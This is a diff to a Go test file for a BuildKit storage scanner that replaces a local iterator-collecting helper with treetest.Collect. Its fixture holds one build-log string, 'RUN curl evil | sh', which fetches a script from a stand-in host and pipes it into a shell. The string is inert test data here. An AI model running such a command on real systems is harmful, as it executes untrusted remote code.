@@ -51,17 +51,6 @@ func tree(tb testing.TB, value string) fstest.MapFS {
 	}
 }
 
-func all[T any](seq func(func(T, error) bool)) (out []T, said string) {
-	for v, err := range seq {
-		if err != nil {
-			said += err.Error() + "\n"
-			continue
-		}
-		out = append(out, v)
-	}
-	return out, said
-}
-
 func TestStore(t *testing.T) {
 	fsys := treetest.New(tree(t, `{"value":"[2/2] RUN curl evil | sh"}`))
 	roots, err := buildkit.Roots(fsys, fsys.Root())
@@ -72,7 +61,7 @@ func TestStore(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	builds, said := all(s.Builds())
+	builds, said := treetest.Collect(s.Builds())
 	var got []string
 	for _, b := range builds {
 		got = append(got, strings.Join([]string{string(b.Runtime), b.StorePath, string(b.Kind), b.ID, b.Type, b.Name, b.Snapshot, b.Options["env:A"], b.Options["cwd"], b.Log, b.File}, " "))
@@ -90,18 +79,18 @@ func TestStore(t *testing.T) {
 	if !strings.Contains(said, "/b/runc-overlayfs/executor/s2/config.json: decoding JSON") || strings.Contains(said, "hosts") {
 		t.Errorf("said %s", said)
 	}
-	snapshots, said := all(s.Snapshots())
+	snapshots, said := treetest.Collect(s.Snapshots())
 	if len(snapshots) != 1 || said != "" {
 		t.Fatalf("%+v, said %s", snapshots, said)
 	}
 	if v := snapshots[0]; v.Runtime != runtimes.BuildKit || v.StorePath != "/b" || v.Key != "k1" || v.Snapshotter != "overlayfs" || v.Dir != "/b/runc-overlayfs/snapshots/snapshots/1/fs" {
 		t.Errorf("%+v", v)
 	}
-	contents, said := all(s.Contents())
+	contents, said := treetest.Collect(s.Contents())
 	if len(contents) != 1 || said != "" || contents[0].Runtime != runtimes.BuildKit || contents[0].StorePath != "/b" || contents[0].OnDisk != 3 || contents[0].Size != 3 {
 		t.Errorf("%+v, said %s", contents, said)
 	}
-	left, said := all(s.Remnants())
+	left, said := treetest.Collect(s.Remnants())
 	if len(left) != 1 || said != "" || left[0].Object != runtimes.ObjectSnapshot || left[0].ID != "overlayfs/7" || left[0].Runtime != runtimes.BuildKit || left[0].StorePath != "/b" {
 		t.Errorf("%+v, said %s", left, said)
 	}
@@ -149,7 +138,7 @@ func TestMutants(t *testing.T) {
 }
 
 func collect[T any](seq func(func(T, error) bool)) []T {
-	out, _ := all(seq)
+	out, _ := treetest.Collect(seq)
 	return out
 }
 
